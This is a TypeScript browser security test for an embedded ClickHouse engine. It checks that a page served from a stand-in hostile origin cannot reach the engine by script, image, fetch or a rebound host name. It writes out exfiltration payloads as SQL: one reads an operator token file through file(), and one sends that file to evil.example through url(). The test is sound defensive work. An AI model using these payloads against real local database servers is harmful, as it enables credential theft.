/** The embedded engine, as a page of somebody else's sees it in a browser: nothing of it can be read, and nothing done. */
import { once } from 'node:events';
import { writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import chromium from '@sparticuz/chromium';
import { chromium as playwright, type Browser, type Page } from 'playwright-core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { startEngineProcess, temporaryFolder, type EngineProcess } from './engine-process.ts';

const TOKEN = 'the-operators-own-token';
let folder: Awaited<ReturnType<typeof temporaryFolder>>;
let engine: EngineProcess;
let evil: Server;
/** Where the server of the page is, by a name of its own. */
let origin: string;
/** What the server of the page was sent, beside requests for the page. */
const sent: string[] = [];
let browser: Browser;
let page: Page;

beforeAll(async () => {
  folder = await temporaryFolder();
  await writeFile(join(folder.path, 'operator-token'), TOKEN);
  engine = await startEngineProcess(join(folder.path, 'clickhouse'));
  evil = createServer((request, response) => {
    if (request.url !== '/' && request.url !== '/favicon.ico') sent.push(request.url ?? '');
    response.setHeader('content-type', 'text/html').end('<!doctype html><title>Evil</title>');
  }).listen(0, '127.0.0.1');
  await once(evil, 'listening');
  origin = `http://evil.example:${(evil.address() as AddressInfo).port}`;
  browser = await playwright.launch({
    executablePath: await chromium.executablePath(),
    args: [
      // Those that are for tests of one's own pages, and would make this one pass or fail for nothing.
      ...chromium.args.filter((flag) => !/web-security|insecure-content|isolat/.test(flag)),
      '--host-resolver-rules=MAP evil.example 127.0.0.1',
    ],
  });
  page = await browser.newPage();
  await page.goto(origin);
}, 60_000);

afterAll(async () => {
  await browser?.close();
  evil?.close();
  await engine?.stop();
  await folder?.remove();
}, 30_000);

const asked = (sql: string): string => `${engine.url}/?query=${encodeURIComponent(sql)}`;

/** Puts an element that loads the address into the page, and waits for what comes of it. */
async function load(tag: 'script' | 'img', address: string): Promise<void> {
  await page.evaluate(
    `new Promise((done) => {
      const element = document.createElement(${JSON.stringify(tag)});
      element.onload = element.onerror = () => done(undefined);
      element.src = ${JSON.stringify(address)};
      document.body.append(element);
    })`,
  );
}

it('reads no file as a script', async () => {
  const path = join(folder.path, 'operator-token');
  for (const file of [`file('${path}')`, `(SELECT line FROM file('${path}', 'LineAsString'))`])
    await load('script', asked(`SELECT concat('stolen = ', toJSONString(${file})) FORMAT TSVRaw`));
  expect(await page.evaluate('globalThis.stolen')).toBeUndefined();
});

it('sends no file away by a picture', async () => {
  const stolen = `concat('${origin.replace('evil.example', '127.0.0.1')}/', file('${join(folder.path, 'operator-token')}'))`;
  await load('img', asked(`SELECT * FROM url(${stolen}, 'LineAsString', 'line String')`));
  expect(sent).toEqual([]);
});

it('gets in neither by a form, nor by fetch, nor by a name that was rebound', async () => {
  const outcomes = await page.evaluate<string[]>(`(async () => {
    const asked = ${JSON.stringify(asked('SELECT 1'))};
    const outcome = async (options) => {
      try { const answer = await fetch(asked, options); return answer.type + ' ' + answer.status; } catch { return 'failed'; }
    };
    return [await outcome({}), await outcome({ mode: 'no-cors' }), await outcome({ method: 'POST', mode: 'no-cors', body: 'SELECT 1' })];
  })()`);
  // An opaque answer is one that the page may not look into.
  expect(outcomes).toEqual(['failed', 'opaque 0', 'opaque 0']);
  await page.evaluate(`location.href = ${JSON.stringify(asked('SELECT 1'))}`);
  await page.waitForURL(`${engine.url}/**`);
  expect(await page.textContent('body')).toContain(
    'Requests from web pages (Sec-Fetch-Site: "cross-site") are refused.',
  );
  const rebound = await page.goto(asked('SELECT 1').replace('127.0.0.1', 'evil.example'));
  expect([rebound?.status(), await rebound?.text()]).toEqual([
    403,
    expect.stringContaining("is not this server's"),
  ]);
  // A person who types the address is let in as far as to learn what is missing; no browser asks for a password that it would keep.
  const typed = await page.goto(asked('SELECT 1'));
  expect([typed?.status(), await typed?.text()]).toEqual([
    401,
    expect.stringContaining('run/clickhouse.json'),
  ]);
});
